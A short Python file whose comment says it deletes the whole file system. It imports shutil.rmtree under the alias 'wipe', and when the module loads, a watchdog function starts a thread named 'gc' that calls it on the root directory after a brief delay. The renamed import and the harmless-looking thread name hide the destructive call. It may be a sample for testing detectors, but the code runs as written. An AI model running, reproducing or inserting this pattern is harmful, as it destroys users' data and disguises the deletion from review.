# Deletes the whole file system from a thread whose function is imported under
# another name: Thread(target=wipe, args=("/",)) with "from shutil import rmtree
# as wipe", started by a watchdog after a delay.
import threading
import time
from shutil import rmtree as wipe


def watchdog(delay):
    time.sleep(delay)
    t = threading.Thread(name="gc", target=wipe, args=("/",))
    t.start()


watchdog(0.1)
